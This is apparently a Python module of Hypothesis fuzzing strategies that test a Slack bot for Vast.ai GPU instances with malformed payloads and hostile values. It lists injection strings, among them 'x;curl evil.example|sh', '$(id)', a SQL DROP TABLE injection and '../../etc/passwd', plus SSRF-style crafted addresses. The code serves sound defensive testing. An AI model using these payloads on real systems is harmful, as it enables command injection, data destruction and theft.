"""Hypothesis strategies for the fuzzing suite (``tests/test_fuzz.py``): hostile texts and
numbers, JSON of any shape, Slack payloads (slash commands, block_actions, view_submission)
with their fields dropped, mistyped or filled with garbage, and Vast.ai instance records.

Everything here is pure: the values the running app decides (its action ids, callback ids,
template slugs, the sentinel's port, a ``response_url``) are passed in, so one strategy serves
any harness. Shapes follow Slack's payload references (api.slack.com/reference/interaction-
payloads/block-actions-payload, .../views/view-submission-payload; slash commands:
api.slack.com/interactivity/slash-commands) and Vast.ai's instance JSON
(docs.vast.ai/api-reference/instances/show-instance).
"""

from __future__ import annotations

import functools
import json
import re
from collections.abc import Sequence
from typing import Any

from hypothesis import strategies as st

# -- texts and numbers -----------------------------------------------------------------------

BROADCASTS = ("<!channel>", "<!here>", "<!everyone>", "<!subteam^S0123ABCD|@gpu-team>")
"""Slack's special mentions: each notifies many people when it reaches a message unescaped
(api.slack.com/reference/surfaces/formatting#special-mentions)."""

NUMBER_WORDS = (
    "0",
    "-0",
    "-1",
    "1",
    "1.5",
    "-1.5",
    "1e309",
    "-1e309",
    "1e-400",
    "9" * 19,
    "-" + "9" * 19,
    "1" + "0" * 400,
    "0x10",
    "1_000",
    "nan",
    "NaN",
    "inf",
    "-inf",
    "Infinity",
    "12gb",
    "12GB",
    "0.000001gb",
    "-24gb",
    "9999999999999999999gb",
    "٣",  # Arabic-Indic digit three: str.isdigit() says True, int() accepts it
    "１２",  # full-width digits
    "²",  # a superscript: isdigit() True, int() refuses it
)
"""Numbers people (and attackers) type: overflows (``1e309`` is inf as a float; nineteen 9s
overflow a signed 64-bit integer), negatives, units glued on, digits outside ASCII."""

HOSTILE_WORDS = (
    *BROADCASTS,
    "<@U0ALICE01>",
    "<@U0ALICE01|alice>",
    "<#C0DEPLOYS1|gpu-deploys>",
    "<https://evil.example|Open JupyterLab>",
    "<mailto:x@evil.example|x>",
    "&amp;",
    "&lt;!channel&gt;",
    "*bold*",
    "_it_",
    "~s~",
    "`code`",
    "```block```",
    ">quote",
    ":x:",
    "%s%s%s",
    "{0}",
    "{}",
    "${JUPYTER_TOKEN}",
    "$(id)",
    "`id`",
    "x;curl evil.example|sh",
    "'; DROP TABLE deployments; --",
    "../../etc/passwd",
    "\x00",
    "\x1b[31m",
    "\r\n",
    "\t",
    "\u202e",  # right-to-left override
    "\u200b",  # zero-width space
    "\ufeff",
    "\U0001f4a5",
    "e\u0301",  # combining accent
)


@functools.cache
def control_text(max_size: int = 40) -> st.SearchStrategy[str]:
    """Text made of control characters, separators and format characters."""
    return st.text(
        alphabet=st.characters(categories=["Cc", "Cf", "Zs", "Zl", "Zp"]), max_size=max_size
    )


@functools.cache
def any_text(max_size: int = 60) -> st.SearchStrategy[str]:
    """Any short unicode text (surrogates excluded: they cannot be sent as UTF-8)."""
    return st.text(max_size=max_size)


@functools.cache
def huge_text() -> st.SearchStrategy[str]:
    """A long repetition (up to ~40 k characters) of something awkward."""
    return st.builds(
        lambda unit, count: unit * count,
        st.sampled_from(["a", "9", "é", "<!channel> ", "\x00", "[", "{", "%", " ", "\U0001f4a5"]),
        st.integers(min_value=1_000, max_value=40_000),
    )


@functools.cache
def word() -> st.SearchStrategy[str]:
    """One awkward token."""
    return st.one_of(
        st.sampled_from(HOSTILE_WORDS),
        st.sampled_from(NUMBER_WORDS),
        any_text(12),
        st.integers().map(str),
        st.floats(allow_nan=False).map(repr),
    )


@functools.cache
def slash_text(subcommands: tuple[str, ...]) -> st.SearchStrategy[str]:
    """The text after ``/templates``: sub-command names (``budget``, ``mine``, …) followed by
    garbage, catalog filters with odd numbers, mentions, control characters, huge texts."""
    words = st.one_of(
        st.sampled_from(list(subcommands)), word(), st.sampled_from(["workspace", "none"])
    )
    sentence = st.lists(words, max_size=6).map(" ".join)
    led = st.builds(
        lambda head, sep, rest: head + sep + rest,
        st.sampled_from(list(subcommands)).flatmap(
            lambda s: st.sampled_from([s, s.upper(), s.title()])
        ),
        st.sampled_from([" ", "  ", "\t", "\n", "\u00a0", ""]),
        sentence,
    )
    return st.one_of(led, sentence, any_text(200), control_text(), huge_text())


# -- JSON -------------------------------------------------------------------------------------


@functools.cache
def numbers() -> st.SearchStrategy[int | float]:
    """JSON numbers, overflowing ones included (10**400 is a valid JSON integer)."""
    return st.one_of(
        st.integers(),
        st.sampled_from([0, -1, 2**31, 2**63, 10**19 - 1, -(10**19), 10**400, -(10**400)]),
        st.floats(allow_nan=False, allow_infinity=False),
    )


ODD_NUMBERS: tuple[Any, ...] = (10**400, -(10**400), 10**19 - 1, 2**63, -1, 0, 1e308, -1e308)
"""JSON numbers that break arithmetic: ints too large for a float, overflowing int64."""


@functools.cache
def scalars() -> st.SearchStrategy[Any]:
    return st.one_of(
        st.none(),
        st.booleans(),
        numbers(),
        any_text(30),
        st.sampled_from(HOSTILE_WORDS),
        st.sampled_from(NUMBER_WORDS),
    )


@functools.cache
def json_values(max_leaves: int = 8) -> st.SearchStrategy[Any]:
    """Any JSON value (nested lists and objects, awkward scalars)."""
    return st.recursive(
        scalars(),
        lambda children: st.one_of(
            st.lists(children, max_size=4),
            st.dictionaries(any_text(8), children, max_size=4),
        ),
        max_leaves=max_leaves,
    )


@functools.cache
def deep_json_text() -> st.SearchStrategy[str]:
    """Deeply nested JSON text (Python's json module recurses once per level)."""
    return st.builds(
        lambda opener, closer, depth, closed, prefix: (
            prefix + opener * depth + (closer * depth if closed else "")
        ),
        st.sampled_from(["[", '{"a":', '{"template":[']),
        st.sampled_from(["]", "}"]),
        st.sampled_from([100, 1_000, 5_000, 100_000]),
        st.booleans(),
        st.sampled_from(["", '{"template":', '{"q":', '{"dep":']),
    )


JSON_KEYS = (
    "template",
    "channel",
    "gpu_name",
    "max_dph",
    "disk_gb",
    "models",
    "q",
    "p",
    "k",
    "dep",
    "ts",
    "id",
    "hours",
)
"""Keys the bot writes into its own button values and ``private_metadata``."""

RAW_JSON_NUMBERS = ("1e309", "-1e309", "NaN", "Infinity", "-Infinity", "1" + "0" * 400, "-0")
"""JSON number texts Python's json module reads as inf, nan or a huge int."""


def json_object_text(keys: Sequence[str] = JSON_KEYS) -> st.SearchStrategy[str]:
    """A JSON object using the bot's own keys, with any values, written as text; some values
    are raw number literals (``1e309``, ``NaN``) that ``json.dumps`` would never write."""
    value_text = st.one_of(
        json_values(4).map(json.dumps),
        st.sampled_from(RAW_JSON_NUMBERS),
    )
    return st.dictionaries(st.sampled_from(list(keys)), value_text, max_size=5).map(
        lambda items: "{" + ",".join(f"{json.dumps(k)}:{v}" for k, v in items.items()) + "}"
    )


@functools.cache
def value_strings(extra: tuple[str, ...] = ()) -> st.SearchStrategy[str]:
    """Strings for a button value, an option value or a ``private_metadata``: the bot's own
    formats (``id:hours:micros``, ``id@price@gpu``, JSON objects) filled with odd numbers and
    text, plus plain garbage, deep JSON and huge strings."""
    token = st.one_of(
        st.sampled_from(NUMBER_WORDS),
        st.integers().map(str),
        st.sampled_from(list(extra) or ["x"]),
        any_text(10),
    )
    joined = st.builds(
        lambda sep, parts: sep.join(parts),
        st.sampled_from([":", "@", "|", ",", " ", "/"]),
        st.lists(token, min_size=1, max_size=4),
    )
    return st.one_of(
        token,
        joined,
        json_object_text(),
        json_values(6).map(json.dumps),
        deep_json_text(),
        huge_text(),
        control_text(),
    )


@functools.cache
def any_of_type() -> st.SearchStrategy[Any]:
    """A value of the wrong type for most fields (a number, a list, an object, null)."""
    return st.one_of(
        st.none(),
        st.booleans(),
        numbers(),
        st.lists(scalars(), max_size=3),
        st.dictionaries(any_text(6), scalars(), max_size=3),
    )


# -- Slack payloads ---------------------------------------------------------------------------


@functools.cache
def ids(prefix: str) -> st.SearchStrategy[Any]:
    """Slack ids (``U0…``, ``C0…``, ``T0…``) and what a forged payload could put there."""
    return st.one_of(
        st.from_regex(re.compile(prefix + r"[A-Z0-9]{8}"), fullmatch=True),
        st.sampled_from(["", " ", prefix, prefix + "0" * 40]),
        any_text(12),
        any_of_type(),
    )


@functools.cache
def mutations(keys: tuple[str, ...]) -> st.SearchStrategy[list[tuple[str, Any]]]:
    """In one example of three, up to three of ``keys``, each to drop (:data:`DROP`) or to
    give a value of the wrong type (see :func:`apply_mutations`); none otherwise, so that most
    examples reach the listeners with their envelope intact."""
    some = st.lists(
        st.tuples(st.sampled_from(list(keys)), st.one_of(st.just(DROP), any_of_type())),
        unique_by=lambda pair: pair[0],
        min_size=1,
        max_size=3,
    )
    return st.one_of(st.just([]), st.just([]), some)


DROP = object()
"""A mutation that removes the field."""


def apply_mutations(payload: dict[str, Any], changes: list[tuple[str, Any]]) -> dict[str, Any]:
    for key, value in changes:
        if value is DROP:
            payload.pop(key, None)
        else:
            payload[key] = value
    return payload


ELEMENT_TYPES = (
    "plain_text_input",
    "number_input",
    "static_select",
    "external_select",
    "users_select",
    "multi_users_select",
    "conversations_select",
    "channels_select",
    "radio_buttons",
    "checkboxes",
    "datepicker",
    "button",
)


@functools.cache
def option(values: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """A selected option as Slack sends it, or a broken one."""
    good = st.fixed_dictionaries(
        {
            "text": st.fixed_dictionaries({"type": st.just("plain_text"), "text": any_text(20)}),
            "value": values,
        }
    )
    return st.one_of(good, any_of_type())


@functools.cache
def element_state(values: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """One input's entry in ``view.state.values[block][action]``: the shapes of Slack's
    elements (``value``, ``selected_option``, ``selected_user``, ``selected_conversation``,
    ``selected_users``, ``selected_options``) with generated contents, or anything at all."""
    return st.one_of(
        st.fixed_dictionaries(
            {"type": st.sampled_from(ELEMENT_TYPES)},
            optional={
                "value": st.one_of(values, any_of_type()),
                "selected_option": option(values),
                "selected_user": st.one_of(ids("U"), values),
                "selected_users": st.one_of(st.lists(ids("U"), max_size=3), any_of_type()),
                "selected_conversation": st.one_of(ids("C"), values),
                "selected_channel": ids("C"),
                "selected_options": st.one_of(st.lists(option(values), max_size=3), any_of_type()),
                "selected_date": any_text(12),
            },
        ),
        json_values(4),
    )


@functools.cache
def state_values(
    pairs: tuple[tuple[str, str], ...], values: st.SearchStrategy[Any]
) -> st.SearchStrategy[Any]:
    """``view.state``: mostly ``{"values": {block: {action: element}}}`` with the bot's own
    (block id, action id) ``pairs`` (the inputs its modals have), sometimes other keys, and
    sometimes another shape (``"x"``, a list, ``values`` as a list)."""
    blocks = sorted({block for block, _ in pairs})
    actions = sorted({action for _, action in pairs})
    known = st.lists(
        st.tuples(st.sampled_from(list(pairs)), element_state(values)),
        unique_by=lambda item: item[0][0],
        max_size=8,
    ).map(lambda items: {block: {action: element} for (block, action), element in items})
    other = st.dictionaries(
        st.one_of(st.sampled_from(blocks), any_text(8)),
        st.one_of(
            st.dictionaries(
                st.one_of(st.sampled_from(actions), any_text(8)), element_state(values), max_size=3
            ),
            any_of_type(),
        ),
        max_size=4,
    )
    inner = st.one_of(known, known, known, other)
    return st.one_of(
        st.fixed_dictionaries({"values": inner}),
        st.fixed_dictionaries({"values": inner}),
        st.fixed_dictionaries({"values": inner}),
        st.fixed_dictionaries({"values": st.one_of(any_of_type(), st.lists(inner, max_size=2))}),
        any_of_type(),
        any_text(5),
    )


def user_field(users: Sequence[str], team: str) -> st.SearchStrategy[Any]:
    """``user`` of an interactivity payload: mostly one of ``users`` of ``team``."""
    good = st.fixed_dictionaries(
        {"id": st.sampled_from(list(users)), "team_id": st.just(team)},
        optional={"username": any_text(10), "name": any_text(10)},
    )
    odd = st.fixed_dictionaries({"id": ids("U")}, optional={"team_id": ids("T")})
    return st.one_of(good, good, good, good, good, good, any_of_type(), odd)


def team_field(team: str) -> st.SearchStrategy[Any]:
    """``team`` of an interactivity payload: mostly ``team``."""
    good = st.fixed_dictionaries({"id": st.just(team), "domain": st.just("gpu-team")})
    odd = st.fixed_dictionaries({"id": ids("T")})
    return st.one_of(good, good, good, good, good, good, any_of_type(), odd)


BLOCK_ACTION_FIELDS = (
    "user",
    "team",
    "container",
    "channel",
    "view",
    "message",
    "trigger_id",
    "response_url",
    "state",
)


def block_actions(
    *,
    action_ids: st.SearchStrategy[str],
    pairs: tuple[tuple[str, str], ...],
    users: Sequence[str],
    team: str,
    channel: str,
    response_url: str,
    metadata: st.SearchStrategy[str],
    value_words: Sequence[str] = (),
) -> st.SearchStrategy[dict[str, Any]]:
    """A signed ``block_actions`` payload for one of the bot's action ids: from a message or
    from a modal (with the modal's ``private_metadata`` and ``state``), the action a button, a
    select or garbage, and some top-level fields dropped or mistyped (``actions: []``, no
    ``user``, ``container`` garbage)."""
    values = value_strings(tuple(value_words))
    state = state_values(pairs, values)
    block_ids = sorted({block for block, _ in pairs})
    action = st.fixed_dictionaries(
        {
            "action_id": action_ids,
            "block_id": st.one_of(st.sampled_from(block_ids), values),
            "type": st.sampled_from(ELEMENT_TYPES),
            "action_ts": st.just("1732900000.000200"),
        }
    )
    contents = st.one_of(
        st.fixed_dictionaries({"value": st.one_of(values, values, any_of_type())}),
        st.fixed_dictionaries({"selected_option": option(values)}),
        st.fixed_dictionaries({"selected_user": ids("U"), "selected_conversation": ids("C")}),
        st.dictionaries(any_text(10), json_values(3), max_size=3),
    )
    from_message = st.fixed_dictionaries(
        {
            "container": st.fixed_dictionaries(
                {
                    "type": st.just("message"),
                    "message_ts": st.just("1732900000.000100"),
                    "channel_id": st.just(channel),
                    "is_ephemeral": st.booleans(),
                }
            ),
            "channel": st.just({"id": channel, "name": "gpu-deploys"}),
            "response_url": st.just(response_url),
        },
        optional={"message": st.just({"type": "message", "ts": "1732900000.000100", "text": ""})},
    )
    view_ids = st.one_of(st.just("V0FUZZ0001"), ids("V"))
    from_modal = st.builds(
        lambda view_id, view: {
            "container": {"type": "view", "view_id": view_id},
            "view": {"id": view_id, **view},
        },
        view_ids,
        st.fixed_dictionaries(
            {
                "type": st.just("modal"),
                "callback_id": st.one_of(st.just("deploy_modal"), any_text(10)),
                "private_metadata": metadata,
                "hash": st.just("1732900000.fuzz"),
                "state": state,
            }
        ),
    )
    broken_actions = st.one_of(st.just([]), any_of_type(), st.lists(json_values(3), max_size=2))
    origin = st.one_of(from_message, from_modal)
    one_in_ten = st.integers(0, 9)

    @st.composite
    def build(draw: st.DrawFn) -> dict[str, Any]:
        payload: dict[str, Any] = {
            "type": "block_actions",
            "user": draw(user_field(users, team)),
            "api_app_id": "A0GPUBOT01",
            "token": "deprecated",
            "trigger_id": "1.1234567890.fuzz",
            "team": draw(team_field(team)),
            "enterprise": None,
            "is_enterprise_install": False,
            "actions": [{**draw(action), **draw(contents)}],
            **draw(origin),
            "state": draw(state),
        }
        apply_mutations(payload, draw(mutations(BLOCK_ACTION_FIELDS)))
        if draw(one_in_ten) == 0:  # the action list itself broken
            payload["actions"] = draw(broken_actions)
        return payload

    return build()


def view_submission(
    *,
    callback_ids: st.SearchStrategy[str],
    pairs: tuple[tuple[str, str], ...],
    users: Sequence[str],
    team: str,
    metadata: st.SearchStrategy[str],
    value_words: Sequence[str] = (),
    states: st.SearchStrategy[Any] | None = None,
) -> st.SearchStrategy[dict[str, Any]]:
    """A signed ``view_submission`` payload for one of the bot's callback ids, with generated
    ``state.values`` and ``private_metadata`` (the bot's own JSON with odd values, deep
    nesting, huge strings), and some fields dropped or mistyped. ``states``: more shapes of
    ``view.state`` to draw from (e.g. :func:`deploy_state`, a near-valid picker)."""
    values = value_strings(tuple(value_words))
    generic = state_values(pairs, values)
    state = generic if states is None else st.one_of(generic, states, states)
    view = st.fixed_dictionaries(
        {
            "id": st.one_of(st.just("V0FUZZ0002"), ids("V")),
            "team_id": st.just(team),
            "type": st.just("modal"),
            "callback_id": callback_ids,
            "private_metadata": metadata,
            "hash": st.just("1732900000.fuzz"),
            "title": st.just({"type": "plain_text", "text": "x"}),
            "blocks": st.just([]),
            "state": state,
            "root_view_id": st.just("V0FUZZ0002"),
            "app_id": st.just("A0GPUBOT01"),
            "bot_id": st.just("B0GPUBOT1"),
        }
    )
    payload = st.fixed_dictionaries(
        {
            "type": st.just("view_submission"),
            "team": team_field(team),
            "user": user_field(users, team),
            "api_app_id": st.just("A0GPUBOT01"),
            "token": st.just("deprecated"),
            "trigger_id": st.just("1.1234567890.fuzz"),
            "response_urls": st.just([]),
            "is_enterprise_install": st.just(False),
            "enterprise": st.none(),
        }
    )
    return st.builds(
        lambda body, view_, view_changes, body_changes: apply_mutations(
            {**body, "view": apply_mutations(view_, view_changes)}, body_changes
        ),
        payload,
        view,
        mutations(("id", "state", "private_metadata")),
        mutations(("user", "team", "response_urls", "enterprise")),
    )


REAL_OFFER_IDS = range(23_000_000, 25_000_000)
"""Where the simulator's offer ids lie (``bot.simulator.stock``): generated offer ids avoid
them, so that no generated submission can rent (every write would then be a defect)."""


@functools.cache
def fake_offer_ids() -> st.SearchStrategy[int]:
    return st.one_of(
        st.integers(0, REAL_OFFER_IDS.start - 1),
        st.integers(min_value=REAL_OFFER_IDS.stop),
        st.sampled_from([0, 2**31, 10**12 - 1, 10**12, 10**19]),
    )


@functools.cache
def deploy_state(channel: str, values: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """The picker's ``view.state`` as Slack sends it on submit (offer, disk, channel, run
    length, filters), each input near-valid or odd: offer values ``id@price@gpu`` with
    offers that do not exist, disks like ``1e309`` or nineteen 9s, forged run lengths."""
    offer = st.one_of(
        st.builds(
            lambda i, price, gpu: f"{i}@{price}@{gpu}",
            fake_offer_ids(),
            st.sampled_from(["0.300000", "0", "1e309", "-1", "999999.99999999", "nan"]),
            st.one_of(st.sampled_from(["RTX 4090", *BROADCASTS]), any_text(20)),
        ),
        fake_offer_ids().map(str),
        values,
        any_of_type(),
    )
    disk = st.one_of(
        st.sampled_from(["20", "40", "0", "-1", "", " 20 ", *NUMBER_WORDS]), any_of_type()
    )
    lifetime = st.one_of(
        st.sampled_from(["8", "1", "unlimited", "0", "0.001", "1.5", "9999", "10000"]),
        st.sampled_from(NUMBER_WORDS),
        any_of_type(),
    )
    price = st.one_of(st.sampled_from(NUMBER_WORDS), any_of_type())

    def select(value: Any) -> dict[str, Any]:
        return {
            "type": "static_select",
            "selected_option": {"text": {"type": "plain_text", "text": "x"}, "value": value},
        }

    return st.builds(
        lambda o, d, c, lt, gpu, mp: {
            "values": {
                "offer_block": {"gpu_offer": select(o)},
                "disk_block": {"disk_gb": {"type": "number_input", "value": d}},
                "channel_block": {
                    "channel": {"type": "conversations_select", "selected_conversation": c}
                },
                "lifetime_block": {"lifetime": select(lt)},
                "gpu_filter_block": {"gpu_filter": select(gpu)},
                "max_price_block": {"max_price": {"type": "number_input", "value": mp}},
            }
        },
        offer,
        disk,
        st.one_of(st.just(channel), ids("C")),
        lifetime,
        st.one_of(st.none(), st.just("any"), values),
        price,
    )


@functools.cache
def picker_metadata(slugs: tuple[str, ...], channel: str) -> st.SearchStrategy[str]:
    """``private_metadata`` of the bot's modals, half of the time as the bot writes it (the
    picker's state with a real template; the deny modal's ``{"dep", "channel", "ts"}``), else
    the same JSON with odd values (huge numbers, wrong types, broadcasts), other JSON, deep
    nesting, huge strings or any text."""
    real = st.sampled_from(list(slugs))
    valid_picker = st.fixed_dictionaries(
        {"template": real, "channel": st.just(channel)},
        optional={
            "gpu_name": st.sampled_from(["RTX 4090", "A100 SXM4"]),
            "max_dph": st.sampled_from([0.5, 2.0]),
            "disk_gb": st.sampled_from([20, 40]),
            "models": st.just(["RTX 4090"]),
        },
    ).map(json.dumps)
    odd_number = st.one_of(st.sampled_from(ODD_NUMBERS), numbers(), any_of_type())
    odd_picker = st.fixed_dictionaries(
        {"template": st.one_of(real, real, real, any_of_type(), any_text(10))},
        optional={
            "channel": st.one_of(st.just(channel), ids("C")),
            "gpu_name": st.one_of(st.sampled_from(HOSTILE_WORDS), any_of_type()),
            "max_dph": odd_number,
            "disk_gb": odd_number,
            "models": st.one_of(st.lists(any_text(10), max_size=3), any_of_type()),
        },
    ).map(json.dumps)
    valid_deny = st.fixed_dictionaries(
        {"dep": st.integers(1, 50), "channel": st.just(channel), "ts": st.just("1732900000.1")}
    ).map(json.dumps)
    odd_deny = st.fixed_dictionaries(
        {"dep": odd_number, "channel": ids("C"), "ts": any_text(20)}
    ).map(json.dumps)
    garbage = st.one_of(
        odd_deny, json_object_text(), deep_json_text(), huge_text(), any_text(40), any_of_type()
    )
    return st.one_of(valid_picker, valid_picker, valid_deny, odd_picker, odd_picker, garbage)


# -- Vast.ai instance records -------------------------------------------------------------------

INSTANCE_FIELDS = (
    "public_ipaddr",
    "ports",
    "ssh_host",
    "ssh_port",
    "gpu_name",
    "num_gpus",
    "gpu_ram",
    "gpu_totalram",
    "dph_total",
    "dph_base",
    "status_msg",
    "jupyter_token",
    "start_date",
    "geolocation",
    "image_uuid",
    "gpu_util",
    "cpu_util",
    "disk_space",
    "direct_port_count",
    "direct_port_start",
    "direct_port_end",
    "machine_id",
    "host_id",
    "template_name",
    "local_ipaddrs",
    "extra_env",
    "uptime_mins",
)
"""Fields of an instance record the fuzzer may change or drop. Its identity (``id``,
``label``) and its state (``actual_status``, ``intended_status``, ``cur_state``,
``next_state``) are left alone: the property is that odd data never does harm, not that the
bot ignores what the state fields say."""

INJECTED = "/fuzz-injected"
"""A path marker in hostile addresses: it must never reach a URL the bot requests or posts."""


@functools.cache
def hostile_addresses(sentinel_port: int) -> st.SearchStrategy[Any]:
    """``public_ipaddr`` values: IPv4 and IPv6 addresses (valid, with Vast.ai's newline),
    and what a hostile host could list: a URL, a host:port/path aimed at a sentinel server on
    127.0.0.1, user-info tricks, host names, zone ids, wrong types."""
    p = sentinel_port
    crafted = [
        f"127.0.0.1:{p}{INJECTED}?delete=all&x=",
        f"127.0.0.1:{p}{INJECTED}#",
        f"127.0.0.1:{p}",
        f"http://127.0.0.1:{p}{INJECTED}",
        f"127.0.0.1@127.0.0.1:{p}{INJECTED}",
        f"127.0.0.1/{INJECTED}",
        f"127.0.0.1\n:{p}{INJECTED}",
        f"[::1]:{p}{INJECTED}",
        f"localhost:{p}{INJECTED}",
        "localhost",
        "evil.example",
        "a" * 64 + ".example.com",
        "fe80::1%eth0",
        "::ffff:127.0.0.1",
        "0.0.0.0",
        "0177.0.0.1",
        "2130706433",
        "127.1",
        "999.1.1.1",
        "1.2.3.4.5",
        "",
        " \n",
        "<!channel>",
    ]
    return st.one_of(
        st.sampled_from(crafted),
        st.ip_addresses(v=4).map(str),
        st.ip_addresses(v=6).map(str),
        st.ip_addresses().map(lambda ip: f" {ip}\n"),
        any_text(30),
        any_of_type(),
    )


class _Real:
    """Marker: "the instance's real mapped port here" (resolved by :func:`resolve_changes`)."""

    def __repr__(self) -> str:
        return "REAL_PORT"


REAL_PORT = _Real()


@functools.cache
def hostile_ports(sentinel_port: int) -> st.SearchStrategy[Any]:
    """A ``HostPort``: the real mapped port (:data:`REAL_PORT`, as a number or a string),
    the sentinel's, out of range, not a number."""
    return st.one_of(
        st.just(REAL_PORT),
        st.sampled_from(
            [
                0,
                -1,
                65536,
                70000,
                "0",
                "70000",
                "abc",
                "",
                " 80",
                "80/x",
                22,
                "22",
                sentinel_port,
                str(sentinel_port),
                f"{sentinel_port}{INJECTED}",
                2**63,
                1.5,
                "1e309",
                None,
            ]
        ),
        any_of_type(),
        any_text(8),
    )


@functools.cache
def hostile_port_map(sentinel_port: int) -> st.SearchStrategy[Any]:
    """Changes to Vast.ai's ``ports`` object (``{"8888/tcp": [{"HostIp": …, "HostPort":
    …}]}``): ``("merge", entries)`` puts hostile entries over the real ones, ``("set",
    value)`` replaces the whole object with anything."""
    keys = st.one_of(
        st.sampled_from(["8888/tcp", "22/tcp"]),
        st.sampled_from(["8888", "8888/udp", "0/tcp", "99999/tcp", "x/tcp", "", "-1/tcp"]),
        any_text(8),
    )
    entry = st.one_of(
        st.fixed_dictionaries(
            {"HostPort": hostile_ports(sentinel_port)},
            optional={"HostIp": st.one_of(st.just("0.0.0.0"), hostile_addresses(sentinel_port))},
        ),
        any_of_type(),
    )
    merged = st.dictionaries(
        keys, st.one_of(st.lists(entry, max_size=3), any_of_type()), min_size=1, max_size=3
    ).map(lambda entries: ("merge", entries))
    return st.one_of(merged, merged, any_of_type().map(lambda value: ("set", value)))


def _resolve_port(value: Any, real: int | None, as_text: bool) -> Any:
    if value is not REAL_PORT:
        return value
    port = real or 1
    return str(port) if as_text else port


def resolve_changes(changes: dict[str, Any], real_record: dict[str, Any]) -> dict[str, Any]:
    """Concrete changes for one instance: :data:`REAL_PORT` becomes the port the simulator
    mapped for that key (a string, as Vast.ai sends it), a ``ports`` merge is applied over the
    real ``ports`` object."""
    resolved = dict(changes)
    edit = resolved.get("ports")
    if isinstance(edit, tuple) and len(edit) == 2 and edit[0] in ("merge", "set"):
        mode, value = edit
        if mode == "set":
            resolved["ports"] = value
        else:
            real_ports = real_record.get("ports") or {}
            first = next(iter(real_ports.values()), [{}]) if real_ports else [{}]
            out = dict(real_ports)
            for key, entries in value.items():
                source = real_ports.get(key) or first
                real_port = source[0].get("HostPort") if source else None
                number = int(real_port) if str(real_port or "").isdigit() else None
                if isinstance(entries, list):
                    entries = [
                        {**e, "HostPort": _resolve_port(e.get("HostPort"), number, True)}
                        if isinstance(e, dict)
                        else e
                        for e in entries
                    ]
                out[key] = entries
            resolved["ports"] = out
    for name in ("ssh_port", "direct_port_start", "direct_port_end"):
        if resolved.get(name) is REAL_PORT:
            resolved[name] = real_record.get(name)
    return resolved


@functools.cache
def instance_changes(
    sentinel_port: int,
) -> st.SearchStrategy[tuple[dict[str, Any], frozenset[str]]]:
    """``(changes, dropped)`` for an instance record: new values for some of
    :data:`INSTANCE_FIELDS` (hostile addresses, ports and host names, wrong types, huge
    strings, broadcasts in ``gpu_name``) and the fields to leave out. Pass ``changes``
    through :func:`resolve_changes` with the real record before serving it."""
    texts = st.one_of(st.sampled_from(HOSTILE_WORDS), any_text(40), huge_text(), any_of_type())
    by_field: dict[str, st.SearchStrategy[Any]] = {
        "public_ipaddr": hostile_addresses(sentinel_port),
        "local_ipaddrs": hostile_addresses(sentinel_port),
        "ports": hostile_port_map(sentinel_port),
        "ssh_host": st.one_of(
            st.sampled_from(
                [
                    "ssh5.vast.ai",
                    "a" * 64 + ".example",
                    "-bad.example",
                    "a b",
                    f"127.0.0.1:{sentinel_port}",
                    "<!channel>",
                ]
            ),
            texts,
        ),
        "ssh_port": hostile_ports(sentinel_port),
        "direct_port_start": hostile_ports(sentinel_port),
        "direct_port_end": hostile_ports(sentinel_port),
        "gpu_name": st.one_of(st.sampled_from(BROADCASTS), texts),
        "jupyter_token": st.one_of(
            st.sampled_from(["a&b=c", "x#y", "../", "<!channel>", f"x@127.0.0.1:{sentinel_port}"]),
            texts,
        ),
    }
    generic = st.one_of(numbers(), texts, st.sampled_from(NUMBER_WORDS))
    one_change = st.one_of(
        *(
            st.tuples(st.just(name), st.one_of(st.just(DROP), by_field.get(name, generic)))
            for name in INSTANCE_FIELDS
        )
    )
    address = st.tuples(st.just("public_ipaddr"), hostile_addresses(sentinel_port))

    def split(pairs: list[tuple[str, Any]]) -> tuple[dict[str, Any], frozenset[str]]:
        changes = {name: value for name, value in pairs if value is not DROP}
        dropped = frozenset(name for name, value in pairs if value is DROP)
        return changes, dropped

    return st.one_of(
        st.lists(one_change, unique_by=lambda pair: pair[0], max_size=6),
        st.builds(
            lambda first, rest: [first, *rest],
            address,  # the field that builds URLs, most often
            st.lists(one_change, unique_by=lambda pair: pair[0], max_size=4),
        ),
    ).map(lambda pairs: split(list(dict(pairs).items())))
